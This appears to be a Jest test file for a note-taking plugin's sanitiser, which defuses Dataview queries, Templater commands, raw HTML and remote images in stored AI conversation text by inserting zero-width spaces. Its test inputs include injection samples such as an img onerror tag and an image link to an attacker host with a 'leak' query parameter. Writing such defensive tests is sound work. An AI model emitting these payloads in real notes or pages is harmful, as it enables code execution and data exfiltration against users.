import { neutraliseMessageLine, neutraliseMessageText, restoreMessageLine } from '../../src/conversation/inert-message-text';
import { parseConversationNote, serializeConversationNote } from '../../src/conversation';
import { ConversationBuilder } from '../support/conversation-builder';

const Z = '\u200b';
const restore = (text: string) => text.split('\n').map(restoreMessageLine).join('\n');

describe('message text as a note stores it', () => {
  it.each([
    ['a dataviewjs fence', '```dataviewjs', `\`\`\`${Z}dataviewjs`],
    ['a fence in a quote, tildes, a mermaid block', '> ~~~ mermaid', `> ~~~ ${Z}mermaid`],
    ['an inline JavaScript query', 'Count: `$= dv.pages().length`', `Count: \`${Z}$= dv.pages().length\``],
    ['an inline query after a space', 'Name: `` = this.file.name ``', `Name: \`\` ${Z}= this.file.name \`\``],
    ['a code line Dataview would run as a query', '    $= dv.current()', `    ${Z}$= dv.current()`],
    ['Templater commands', '<%* tR += "x" %> and <%+ tp.date.now() %>', `<${Z}%* tR += "x" %> and <${Z}%+ tp.date.now() %>`],
    ['raw HTML', '<iframe src="https://a.example"></iframe><img onerror=x>', `<${Z}iframe src="https://a.example"><${Z}/iframe><${Z}img onerror=x>`],
    ['declarations and processing instructions', '<!DOCTYPE x> <?php ?>', `<${Z}!DOCTYPE x> <${Z}?php ?>`],
    ['a remote image', '![chart](https://attacker.example/leak?d=1)', `!${Z}[chart](https://attacker.example/leak?d=1)`],
  ])('neutralises %s, readably', (_name, line, stored) => {
    expect(neutraliseMessageLine(line)).toBe(stored);
    expect(stored.replaceAll(Z, '')).toBe(line);
    expect(restoreMessageLine(stored)).toBe(line);
  });

  it.each([
    ['highlighted languages', '```python'],
    ['comments (Glassbox markers are comments)', '<!--REASONING_BLOCK:{"v":1}-->'],
    ['embeds of notes', '![[Diagram.png]]'],
    ['a setext underline', '====='],
    ['comparisons', 'a < b and c <= d, x = 1'],
  ])('leaves %s alone', (_name, line) => {
    expect(neutraliseMessageLine(line)).toBe(line);
  });

  it('round-trips text that already holds zero-width spaces, and never stacks them on a second save', () => {
    const tricky = [`<${Z}b> <${Z}${Z}%`, `!${Z}[[x]] \`${Z}x\``, `\`\`\`${Z}python`, `${Z}= x`, `<${Z}`].join('\n');
    expect(restore(neutraliseMessageText(tricky))).toBe(tricky);
    const conversation = new ConversationBuilder().user('Show me').assistant('<%* x %>\n\n![a](https://e.example/i.png)\n\n```dataviewjs\nx\n```').build();
    const note = serializeConversationNote(conversation, { clock: 'utc' });
    const loaded = parseConversationNote(note);
    if (!loaded.ok) throw loaded.error;
    expect(loaded.value.messages[1].content).toBe(conversation.messages[1].content);
    expect(serializeConversationNote(loaded.value, { clock: 'utc' })).toBe(note);
  });

  it('reads a note written before neutralising as it is', () => {
    const old = serializeConversationNote(new ConversationBuilder().user('Q').assistant('A').build(), { clock: 'utc' }).replace('\nA\n', '\n<%* x %> `$= y` ![i](https://e.example/i)\n');
    const loaded = parseConversationNote(old);
    if (!loaded.ok) throw loaded.error;
    expect(loaded.value.messages[1].content).toBe('<%* x %> `$= y` ![i](https://e.example/i)');
  });
});
